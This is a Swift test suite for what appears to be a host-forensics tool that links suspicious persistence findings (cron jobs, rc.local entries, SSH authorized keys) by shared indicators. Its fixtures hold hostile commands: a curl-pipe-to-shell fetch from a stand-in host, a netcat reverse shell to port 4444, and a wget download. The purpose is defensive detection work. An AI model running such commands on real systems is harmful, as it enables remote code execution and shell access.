import Inquiry
import Model
import Testing

@Suite struct `The marks of a grave finding` {
    private func finding(_ text: RawText, severity: Severity = .high) -> Finding {
        var finding = Finding.made("autorun.harmful", severity, aspect: .persistence, path: "/etc/cron.d/x", kind: .job)
        finding.evidence = [EvidenceItem(.content, source: "autoruns", path: "/etc/cron.d/x", text: text)]
        return finding
    }

    private var facts: Facts {
        var facts = Facts.made()
        facts.autoruns = [
            AutorunEntry(mechanism: .rcLocal, place: Place("/etc/rc.local", line: 3), name: "rc.local", command: "ping -c1 198.51.100.7"),
            AutorunEntry(mechanism: .rcLocal, place: Place("/etc/rc.d/y", line: 1), name: "y", command: "ping 198.51.100.70"),
            AutorunEntry(
                mechanism: .cronUser, place: Place("/var/spool/cron/root", line: 1), name: "root",
                command: "curl http://bad.example.net/x | sh"),
        ]
        return facts
    }

    @Test func `are looked for in everything else that starts by itself`() {
        let linked = SharedMarks(facts).linked([finding("nc 198.51.100.7 4444 -e /bin/sh")])
        #expect(linked.first?.related == ["/etc/rc.local"])
        #expect(linked.first?.evidence.last?.text == "198.51.100.7")
        #expect(linked.first?.evidence.last?.line == 3)
    }

    @Test func `may be names on the network`() {
        let linked = SharedMarks(facts).linked([finding("wget -q https://bad.example.net/y")])
        #expect(linked.first?.related == ["/var/spool/cron/root"])
    }

    @Test(arguments: ["curl https://github.com/a/b", "ping 10.0.0.1", "ping 127.0.0.1", "version 1.2.3", "8.8.8.8"] as [RawText])
    func `are not what everybody names`(text: RawText) {
        var facts = facts
        facts.autoruns.append(AutorunEntry(mechanism: .cronUser, place: Place("/a"), name: "a", command: text))
        #expect(SharedMarks(facts).linked([finding(text)]).first?.related == [])
    }

    @Test func `are looked for with grave findings only`() {
        let linked = SharedMarks(facts).linked([finding("nc 198.51.100.7 4444", severity: .medium)])
        #expect(linked.first?.related == [])
    }

    @Test func `are keys, wherever else they stand`() {
        var facts = facts
        let key: [UInt8] = [0, 0, 0, 11, 1, 2, 3, 4, 5, 6, 7, 8, 9]
        facts.keys = [
            AuthorizedKey(account: "bin", place: Place("/bin/.ssh/authorized_keys", line: 1), algorithm: "ssh-ed25519", key: key),
            AuthorizedKey(account: "root", place: Place("/root/.ssh/authorized_keys", line: 4), algorithm: "ssh-ed25519", key: key),
        ]
        var strange = Finding.made("ssh.key.strange", .high, aspect: .access, path: "/bin/.ssh/authorized_keys", kind: .account)
        strange.subject.line = 1
        #expect(SharedMarks(facts).linked([strange]).first?.related == ["/root/.ssh/authorized_keys"])
    }
}
